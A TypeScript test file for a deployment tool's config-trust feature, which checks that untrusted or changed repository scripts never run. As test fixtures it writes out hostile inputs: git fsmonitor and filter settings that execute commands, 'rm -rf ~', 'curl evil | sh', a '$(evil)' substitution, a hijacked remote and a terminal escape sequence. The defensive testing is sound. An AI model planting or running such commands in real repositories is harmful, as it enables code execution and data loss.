import {chmodSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync} from 'node:fs';
import {join} from 'node:path';
import {describe, expect, it} from 'vitest';
import {loadConfig, type LoadedConfig} from '../../src/config/load.ts';
import {readSnapshot, writeSnapshot} from '../../src/config/snapshot.ts';
import {checkTrust, giveTrust, type Untrusted} from '../../src/config/trust.ts';
import {CockpitError} from '../../src/util/errors.ts';
import {realWorld} from '../../src/world/real-world.ts';
import type {World} from '../../src/world/world.ts';
import {makeRepo, tempFolder} from '../rig/git-repo.ts';

const config = {
  service: 'orders',
  environments: {
    production: {
      url: 'https://orders.example.com',
      instances: [{name: 'web-1', url: 'http://10.0.0.1'}],
      version: {path: '/version'},
    },
  },
  deploy: {
    command: ['./scripts/deploy.sh', '{{version}}', '--values=deploy/values.yml'],
  },
  rollback: {
    command: {
      argv: ['. ./scripts/lib.sh; exec scripts/back.sh "$COCKPIT_PREVIOUS_VERSION"'],
      shell: '/bin/sh',
    },
  },
  smoke: {checks: [{name: 'unit', command: ['npm', 'run', 'smoke']}]},
};
const files = {
  'cockpit.config.json': JSON.stringify(config, null, 2),
  'scripts/deploy.sh': '#!/bin/sh\nset -e\necho deploy "$1"\n',
  'scripts/back.sh': '#!/bin/sh\necho back\n',
  'scripts/lib.sh': 'log() { echo "$@"; }\n',
  'scripts/other.sh': '#!/bin/sh\necho nobody names me\n',
  'deploy/values.yml': 'replicas: 3\n',
  'package.json': JSON.stringify({name: 'orders', version: '2.7.4', scripts: {smoke: 'node smoke.mjs'}}, null, 2),
};

/** A repository that somebody has cloned, and a home for what its user trusts. */
const setUp = async (environment: Record<string, string> = {}) => {
  const repo = makeRepo();
  repo.commit('first', files);
  repo.git('remote', 'add', 'origin', 'https://token:s3cret@example.com/orders.git');
  for (const script of ['deploy', 'back']) chmodSync(join(repo.path, `scripts/${script}.sh`), 0o755);
  const home = tempFolder();
  const world: World = realWorld({
    env: {
      PATH: process.env['PATH'],
      HOME: home,
      GIT_CONFIG_NOSYSTEM: '1',
      ...environment,
    },
  });
  const look = async () => {
    const loaded = await loadConfig(repo.path, world);
    if (!loaded.ok) throw new Error(loaded.why);
    return {loaded, folder: repo.path, stateHome: join(home, 'state'), world};
  };
  const check = async () => checkTrust(await look());
  const trust = async () => {
    const {hash} = await check();
    expect(await giveTrust({...(await look()), hash})).toEqual({ok: true});
    return hash;
  };
  const untrusted = async (): Promise<Untrusted> => {
    const found = await check();
    if (found.trusted) throw new Error('it is trusted');
    return found;
  };
  return {
    repo,
    home,
    world,
    look,
    check,
    trust,
    untrusted,
    record: () => join(home, 'state/trust', readdirSync(join(home, 'state/trust'))[0]!),
  };
};

describe('[P20] a config that nobody has trusted', () => {
  it('shows every file that would decide what runs, and no other', async () => {
    const {untrusted} = await setUp();
    const found = await untrusted();
    expect(found.firstTime).toBe(true);
    expect(found.says).toBe('You have not trusted this config yet. It names 3 commands and 5 repository files. Nothing from it will run.');
    expect(found.changes.map(({path, change}) => `${path} ${change}`)).toEqual([
      'cockpit.config.json new',
      'deploy/values.yml new',
      'package.json new',
      'scripts/back.sh new',
      'scripts/deploy.sh new',
      'scripts/lib.sh new',
    ]);
    expect(found.changes.find(({path}) => path === 'scripts/deploy.sh')?.lines).toEqual([
      {sign: '+', number: 1, text: '#!/bin/sh'},
      {sign: '+', number: 2, text: 'set -e'},
      {sign: '+', number: 3, text: 'echo deploy "$1"'},
    ]);
  });

  it('runs nothing while it is looked at', async () => {
    const {repo, world, look} = await setUp();
    const ran: string[] = [];
    const watched: World = {
      ...world,
      run: (command, signal) => {
        ran.push(command.argv.slice(0, 2).join(' '));
        return world.run(command, signal);
      },
    };
    // What a hostile archive would bring along.
    repo.git('config', 'core.fsmonitor', `touch ${join(repo.path, 'pwned')}; false`);
    repo.git('config', 'filter.evil.clean', `touch ${join(repo.path, 'pwned')}; cat`);
    writeFileSync(join(repo.path, '.gitattributes'), '* filter=evil\n');
    writeFileSync(join(repo.path, 'scripts/deploy.sh'), 'changed\n');
    const input = {...(await look()), world: watched};
    await giveTrust({...input, hash: (await checkTrust(input)).hash});
    writeFileSync(join(repo.path, 'scripts/deploy.sh'), 'again\n');
    await checkTrust(input);
    expect(readdirSync(repo.path)).not.toContain('pwned');
    expect(ran.every(command => /^git (config|rev-parse|hash-object|log)$/.test(command))).toBe(true);
  });
});

describe('[P20] trust', () => {
  it('is given to exactly what was read', async () => {
    const {check, trust, repo} = await setUp();
    const hash = await trust();
    expect(await check()).toEqual({
      trusted: true,
      hash,
      since: expect.any(Number),
    });
    writeFileSync(join(repo.path, 'scripts/other.sh'), 'nobody names me still\n');
    expect(await check()).toMatchObject({trusted: true});
  });

  it('is kept outside the repository, for this user alone, with no secret of the remote', async () => {
    const {trust, record, home} = await setUp();
    await trust();
    expect(statSync(record()).mode & 0o777).toBe(0o600);
    expect(statSync(join(home, 'state/trust')).mode & 0o777).toBe(0o700);
    expect(readFileSync(record(), 'utf8')).not.toContain('s3cret');
    expect(readFileSync(record(), 'utf8')).toContain('https://example.com/orders.git');
  });

  it('is refused when the content changed between reading and trusting', async () => {
    const {check, look, repo} = await setUp();
    const {hash} = await check();
    writeFileSync(join(repo.path, 'scripts/deploy.sh'), '#!/bin/sh\nrm -rf ~\n');
    expect(await giveTrust({...(await look()), hash})).toMatchObject({
      ok: false,
      why: expect.stringContaining('changed while you were reading'),
    });
    expect(await check()).toMatchObject({trusted: false, firstTime: true});
  });

  it('ends with one changed line, which is shown with who changed it', async () => {
    const {trust, untrusted, repo} = await setUp();
    await trust();
    repo.git('config', 'user.name', 'bob\u001b[31m');
    repo.commit('faster', {
      'scripts/deploy.sh': '#!/bin/sh\nset -e\ncurl evil | sh\n',
    });
    const found = await untrusted();
    expect(found.firstTime).toBe(false);
    expect(found.says).toMatch(
      /^scripts\/deploy\.sh changed since you trusted it \(1 line, bob, (now|.* ago)\)\. Nothing from it will run\.$/,
    );
    expect(found.changes).toEqual([
      {
        path: 'scripts/deploy.sh',
        change: 'changed',
        added: 1,
        removed: 1,
        lines: [
          {sign: ' ', number: 1, text: '#!/bin/sh'},
          {sign: ' ', number: 2, text: 'set -e'},
          {sign: '-', number: 3, text: 'echo deploy "$1"'},
          {sign: '+', number: 3, text: 'curl evil | sh'},
        ],
      },
    ]);
  });

  it.each<[string, (path: string) => void, string]>([
    [
      'the config',
      path => writeFileSync(join(path, 'cockpit.config.json'), JSON.stringify({...config, tools: ['psql']}, null, 2)),
      'cockpit.config.json changed since you trusted it (4 lines, not committed).',
    ],
    [
      'a file that a script sources',
      path => writeFileSync(join(path, 'scripts/lib.sh'), 'log() { evil; }\n'),
      'scripts/lib.sh changed since you trusted it (1 line, not committed).',
    ],
    [
      'a file behind an equals sign',
      path => writeFileSync(join(path, 'deploy/values.yml'), 'image: evil\n'),
      'deploy/values.yml changed since you trusted it (1 line, not committed).',
    ],
    [
      'what npm run would start',
      path => writeFileSync(join(path, 'package.json'), JSON.stringify({version: '2.7.4', scripts: {smoke: 'evil'}})),
      'package.json changed since you trusted it (1 line, not committed).',
    ],
    ['a file that is gone', path => rmSync(join(path, 'scripts/lib.sh')), 'scripts/lib.sh is gone since you trusted it.'],
  ])('ends when %s changes', async (_, change, says) => {
    const {trust, untrusted, repo} = await setUp();
    await trust();
    change(repo.path);
    expect((await untrusted()).says).toBe(`${says} Nothing from it will run.`);
  });

  it('ends when the pushes would go elsewhere, not when a token in the address is renewed', async () => {
    const {trust, untrusted, check, repo} = await setUp();
    await trust();
    repo.git('remote', 'set-url', 'origin', 'https://token:newer@example.com/orders.git');
    expect(await check()).toMatchObject({trusted: true});
    repo.git('remote', 'set-url', 'origin', 'https://evil.example.com/orders.git');
    const found = await untrusted();
    expect(found.remote).toEqual({
      was: 'https://example.com/orders.git',
      is: 'https://evil.example.com/orders.git',
    });
    expect(found.says).toContain('The remote is now https://evil.example.com/orders.git');
  });

  it('outlives the version number that the release itself sets', async () => {
    const {trust, check, repo} = await setUp();
    await trust();
    writeFileSync(join(repo.path, 'package.json'), files['package.json'].replace('2.7.4', '2.8.0'));
    writeFileSync(join(repo.path, 'CHANGELOG.md'), '# new\n');
    expect(await check()).toMatchObject({trusted: true});
  });

  it('outlives the number in a script that says it, and nothing else of it', async () => {
    const {trust, check, repo} = await setUp();
    const script = (version: string, rest = '') => writeFileSync(join(repo.path, 'scripts/lib.sh'), `VERSION=${version}\n${rest}`);
    const own = {
      ...config,
      git: {
        versionFiles: [{file: 'scripts/lib.sh', pattern: 'VERSION={{version}}'}],
      },
    };
    writeFileSync(join(repo.path, 'cockpit.config.json'), JSON.stringify(own));
    script('2.7.4');
    await trust();
    script('2.8.0-rc.1');
    expect(await check()).toMatchObject({trusted: true});
    script('2.8.0', 'evil\n');
    expect(await check()).toMatchObject({trusted: false});
    script('$(evil)');
    expect(await check()).toMatchObject({trusted: false});
  });

  it('of one place says nothing about another', async () => {
    const [a, b] = [await setUp(), await setUp()];
    await a.trust();
    const elsewhere = await b.look();
    expect(await checkTrust({...elsewhere, stateHome: join(a.home, 'state')})).toMatchObject({trusted: false, firstTime: true});
  });

  it('cannot be written by somebody else', async () => {
    const {trust, check, record} = await setUp();
    await trust();
    chmodSync(record(), 0o666);
    const error: unknown = await check().catch(thrown => thrown);
    expect(error).toBeInstanceOf(CockpitError);
    expect(String((error as CockpitError).cause)).toContain('open to others (mode 666)');
  });

  it.each([
    ['half a file', '{"v": 1, "pa'],
    ['another version', '{"v": 2}'],
    ['nothing', ''],
    ['a list', '[]'],
    ['no files', '{"v": 1, "path": "x", "hash": "y"}'],
  ])('that is damaged counts as none: %s', async (_, text) => {
    const {trust, check, record} = await setUp();
    await trust();
    writeFileSync(record(), text);
    expect(await check()).toMatchObject({trusted: false, firstTime: true});
  });

  it('shows differences that cannot harm the terminal, and no tokens', async () => {
    const {trust, untrusted, repo} = await setUp();
    await trust();
    writeFileSync(
      join(repo.path, 'scripts/lib.sh'),
      'log() { echo "\u001b]52;c;aGk=\u0007"; }\nexport GITHUB_TOKEN=ghp_0123456789abcdef0123\n',
    );
    const text = (await untrusted()).changes[0]!.lines.map(line => line.text).join('\n');
    expect(text).not.toMatch(/[\0-\x08\x0b-\x1f\x7f]|ghp_/);
  });

  it('compares what is no text by its hash', async () => {
    const {trust, untrusted, repo} = await setUp();
    writeFileSync(join(repo.path, 'deploy/values.yml'), Buffer.from([0, 1, 2]));
    await trust();
    writeFileSync(join(repo.path, 'deploy/values.yml'), Buffer.from([0, 1, 3]));
    const found = await untrusted();
    expect(found.changes).toEqual([
      {
        path: 'deploy/values.yml',
        change: 'changed',
        added: 0,
        removed: 0,
        lines: [],
      },
    ]);
    expect(found.says).toBe('deploy/values.yml changed since you trusted it (not committed). Nothing from it will run.');
  });
});

describe('the config of a release', () => {
  const kept = async () => {
    const setting = await setUp();
    const {check, look, home} = setting;
    const {hash} = await check();
    const {loaded, folder, world} = await look();
    const releaseFolder = join(home, 'release');
    mkdirSync(releaseFolder);
    const snapshot = await writeSnapshot({
      loaded,
      folder,
      releaseFolder,
      hash,
      world,
    });
    return {
      ...setting,
      loaded: loaded as LoadedConfig,
      releaseFolder,
      snapshot,
    };
  };

  it('is what it was, whatever happens to the repository', async () => {
    const {repo, releaseFolder, world, loaded, snapshot} = await kept();
    rmSync(repo.path, {recursive: true});
    const read = await readSnapshot(releaseFolder, world);
    expect(read).toEqual(JSON.parse(JSON.stringify(snapshot)));
    expect(read.config).toEqual(JSON.parse(JSON.stringify(loaded.config)));
    expect(readFileSync(join(releaseFolder, 'config/files/scripts/back.sh'), 'utf8')).toBe(files['scripts/back.sh']);
    expect(statSync(join(releaseFolder, 'config/files/scripts/back.sh')).mode & 0o100).toBe(0o100);
    expect(readFileSync(join(releaseFolder, 'config/cockpit.config.json'), 'utf8')).toBe(files['cockpit.config.json']);
  });

  it('is refused when it is no longer what was trusted', async () => {
    const {repo, look, releaseFolder, snapshot} = await kept();
    writeFileSync(join(repo.path, 'scripts/back.sh'), 'evil\n');
    const {loaded, folder, world} = await look();
    await expect(
      writeSnapshot({
        loaded,
        folder,
        releaseFolder,
        hash: snapshot.hash,
        world,
      }),
    ).rejects.toThrow(CockpitError);
  });

  it('that cannot be read stops the release with a way out', async () => {
    const {world, releaseFolder} = await kept();
    writeFileSync(join(releaseFolder, 'config/snapshot.json'), '{"v": 9}');
    await expect(readSnapshot(releaseFolder, world)).rejects.toMatchObject({
      next: [expect.stringContaining('snapshot.json'), expect.stringContaining('rollback.sh')],
    });
    await expect(readSnapshot(join(releaseFolder, 'none'), world)).rejects.toThrow(CockpitError);
  });
});
